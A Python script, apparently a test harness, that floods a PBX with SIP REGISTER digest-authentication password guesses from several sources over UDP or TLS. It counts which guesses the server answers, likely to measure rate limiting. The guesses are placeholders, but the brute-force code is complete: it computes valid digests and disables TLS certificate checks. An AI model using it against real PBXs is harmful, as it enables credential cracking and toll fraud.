"""Guesses passwords as fast as the PBX answers; run in the attacker's namespace.

Reads one JSON order from standard input: over (udp|tls), target, port, sources, tries (for each source), user,
connections (TLS: how many at one time), pause (seconds between tries), pipelined (no waiting for answers), seconds
(when to give up). Prints JSON: answered (guesses that got an answer, by source), opened (connections), sent, seconds.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import re
import ssl
import sys
import time
import warnings
from typing import Any

PATIENCE = 1.5
# Seconds for a connection, and for the challenge: with many at once both take long.
OPENING = 8
NONCE = re.compile(rb'nonce="([^"]+)"')
REALM = re.compile(rb'realm="([^"]+)"')


def request(order: dict[str, Any], local: str, number: int, challenge: bytes | None, password: str) -> bytes:
    """One REGISTER; with a challenge it carries a guess, told by its CSeq."""
    user, target, over = order["user"], order["target"], order["over"].upper()
    head = [
        f"REGISTER sip:{target} SIP/2.0",
        f"Via: SIP/2.0/{over} {local};branch=z9hG4bK{os.urandom(6).hex()};rport",
        f"From: <sip:{user}@{target}>;tag={number}",
        f"To: <sip:{user}@{target}>",
        f"Call-ID: {os.urandom(5).hex()}",
        f"CSeq: {number} REGISTER",
        "Max-Forwards: 70",
    ]
    if challenge is not None:
        head.append(answer(challenge, user, f"sip:{target}", password))
    return ("\r\n".join([*head, "Content-Length: 0"]) + "\r\n\r\n").encode()


def answer(challenge: bytes, user: str, uri: str, password: str) -> str:
    """The digest of a guess, without qop, which pjsip takes."""
    nonce, realm = (found[1].decode() if (found := p.search(challenge)) else "" for p in (NONCE, REALM))
    name = "sha256" if b"SHA-256" in challenge else "md5"
    parts = [hashlib.new(name, text.encode()).hexdigest() for text in (f"{user}:{realm}:{password}", f"REGISTER:{uri}")]
    qop = b"qop=" in challenge
    middle = f"{nonce}:00000001:{'a' * 8}:auth" if qop else nonce
    response = hashlib.new(name, f"{parts[0]}:{middle}:{parts[1]}".encode()).hexdigest()
    tail = ',qop=auth,nc=00000001,cnonce="aaaaaaaa"' if qop else ""
    algorithm = "SHA-256" if name == "sha256" else "MD5"
    fields = f'username="{user}",realm="{realm}",nonce="{nonce}",uri="{uri}",response="{response}"'
    return f"Authorization: Digest {fields},algorithm={algorithm}{tail}"


def unverified() -> ssl.SSLContext:
    """Takes any certificate, and any TLS: an unhardened twin has TLS 1.0 alone."""
    # Not the default one: the authorities that it loads take 25 ms a connection, seconds for many of them.
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_ciphers("ALL:@SECLEVEL=0")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        context.minimum_version = ssl.TLSVersion.TLSv1
    return context


class Attack:
    """One source's tries; `answered` counts the guesses that the PBX judged."""

    def __init__(self, order: dict[str, Any], source: str) -> None:
        """Of one order, from one address."""
        self.order, self.source = order, source
        self.answered: set[tuple[int, int]] = set()
        self.opened = self.sent = 0
        self.end = time.monotonic() + order.get("seconds", 20)

    def heard(self, connection: int, text: bytes) -> None:
        """Note which guesses were answered; 1 is the request that only asked for a challenge."""
        for number in re.findall(rb"CSeq:\s*(\d+) REGISTER", text):
            if int(number) > 1:
                self.answered.add((connection, int(number)))

    async def converse(self, connection: int, send: Any, receive: Any, local: str) -> None:
        """Guess until the tries are used up, the time is over or nothing is answered any more."""
        send(request(self.order, local, 1, None, ""))
        challenge = b""
        while b"nonce=" not in challenge:
            challenge = await receive(OPENING)
            if not challenge:
                return
        for number in range(2, 2 + self.order["tries"]):
            if time.monotonic() > self.end:
                return
            send(request(self.order, local, number, challenge, f"guess{number}"))
            self.sent += 1
            wait = 0.0 if self.order.get("pipelined") else PATIENCE
            text = await receive(wait)
            self.heard(connection, text)
            if not text and wait:
                return
            if self.order.get("pause"):
                await asyncio.sleep(self.order["pause"])
        while text := await receive(PATIENCE):
            self.heard(connection, text)

    async def udp(self, connection: int) -> None:
        """Over one UDP port."""
        loop, inbox = asyncio.get_running_loop(), asyncio.Queue[bytes]()

        class Protocol(asyncio.DatagramProtocol):
            def datagram_received(self, data: bytes, addr: Any) -> None:
                inbox.put_nowait(data)

        place = (self.order["target"], self.order["port"])
        transport, _ = await loop.create_datagram_endpoint(Protocol, (self.source, 0), place)
        self.opened += 1
        local = f"{self.source}:{transport.get_extra_info('sockname')[1]}"

        async def receive(seconds: float) -> bytes:
            try:
                return await asyncio.wait_for(inbox.get(), seconds) if seconds else inbox.get_nowait()
            except (asyncio.TimeoutError, asyncio.QueueEmpty):
                await asyncio.sleep(0)
                return b""

        try:
            await self.converse(connection, transport.sendto, receive, local)
        finally:
            transport.close()

    async def tls(self, connection: int) -> None:
        """Over one TLS connection; a connection that is not let in is no error."""
        place = (self.order["target"], self.order["port"])
        try:
            opening = asyncio.open_connection(*place, ssl=unverified(), local_addr=(self.source, 0))
            reader, writer = await asyncio.wait_for(opening, OPENING)
        except (OSError, asyncio.TimeoutError):
            return
        self.opened += 1
        local = f"{self.source}:{writer.get_extra_info('sockname')[1]}"

        async def receive(seconds: float) -> bytes:
            try:
                return await asyncio.wait_for(reader.read(65536), seconds or 0.0005)
            except asyncio.TimeoutError:
                return b""

        try:
            await self.converse(connection, writer.write, receive, local)
        except OSError:
            pass
        finally:
            writer.transport.abort()

    async def run(self) -> None:
        """All connections at once."""
        way = self.tls if self.order["over"] == "tls" else self.udp
        await asyncio.gather(*(way(index) for index in range(self.order.get("connections", 1))))


async def main() -> None:
    """Carry the order out."""
    order = json.load(sys.stdin)
    started = time.monotonic()
    attacks = [Attack(order, source) for source in order["sources"]]
    await asyncio.gather(*(attack.run() for attack in attacks))
    result = {
        "answered": {attack.source: len(attack.answered) for attack in attacks},
        "opened": sum(attack.opened for attack in attacks),
        "sent": sum(attack.sent for attack in attacks),
        "seconds": round(time.monotonic() - started, 1),
    }
    print(json.dumps(result))


if __name__ == "__main__":
    asyncio.run(main())
